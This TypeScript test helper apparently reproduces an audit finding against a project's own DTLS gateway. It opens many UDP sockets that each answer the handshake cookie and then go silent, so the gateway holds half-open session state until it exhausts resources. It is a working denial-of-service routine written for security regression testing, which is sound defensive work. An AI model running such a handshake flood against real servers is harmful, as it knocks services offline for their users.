import dgram from 'node:dgram';
import type { DtlsSession, NativeDtls } from '../../src/transport/dtls/native-binding';

/**
 * Half-open DTLS handshakes, the attack of issue 9 finding 5c: each from its own socket (port) on
 * `bindAddress`, answers the HelloVerifyRequest with the cookie (so the gateway creates a session,
 * ~50 KB of OpenSSL state) and then goes silent. Resolves with the sockets (the caller closes them)
 * once every handshake got its cookie through, or after `timeoutMs`.
 */
export async function openHalfOpenHandshakes(
  native: NativeDtls,
  gateway: { address: string; port: number },
  count: number,
  bindAddress: string,
  timeoutMs = 10_000,
): Promise<{ sockets: dgram.Socket[]; cookieAnswered: number; serverFlights: () => number }> {
  const sockets: dgram.Socket[] = [];
  /** Sockets that got anything after sending their cookie: the server's flight of a started handshake. */
  const flights = new Set<dgram.Socket>();
  const byId = new Map<number, dgram.Socket>();
  const context = native.createContext({
    mode: 'client',
    ciphers: 'PSK-AES128-CCM8',
    verifyPeer: false,
    pskIdentity: 'attacker',
    pskKey: Buffer.alloc(16, 0xaa),
    send: (id, datagram) => byId.get(id)?.send(datagram, gateway.port, gateway.address),
    data: () => undefined,
  });
  let cookieAnswered = 0;
  const deadline = Date.now() + timeoutMs;
  // In waves, so that the kernel's socket buffers do not drop the gateway's answers.
  for (let start = 0; start < count && Date.now() < deadline; start += 100) {
    const wave: Promise<void>[] = [];
    for (let i = start; i < Math.min(count, start + 100); i++) {
      wave.push(
        new Promise<void>((resolve) => {
          const socket = dgram.createSocket('udp4');
          sockets.push(socket);
          socket.on('error', () => undefined);
          socket.bind(0, bindAddress, () => {
            const id = i + 1;
            byId.set(id, socket);
            let session: DtlsSession | undefined = native.connect(context, id); // sends the ClientHello
            const timer = setTimeout(() => finish(), Math.max(0, deadline - Date.now()));
            const finish = () => {
              clearTimeout(timer);
              if (session) native.free(session);
              session = undefined;
              byId.delete(id);
              resolve();
            };
            socket.once('message', (hello) => {
              if (!session) return;
              native.receive(session, hello); // the HelloVerifyRequest: sends the ClientHello with the cookie
              cookieAnswered++;
              socket.on('message', () => flights.add(socket));
              finish(); // and never another word
            });
          });
        }),
      );
    }
    await Promise.all(wave);
  }
  return { sockets, cookieAnswered, serverFlights: () => flights.size };
}

export async function closeSockets(sockets: dgram.Socket[]): Promise<void> {
  await Promise.all(sockets.map((s) => new Promise<void>((resolve) => s.close(() => resolve()))));
}
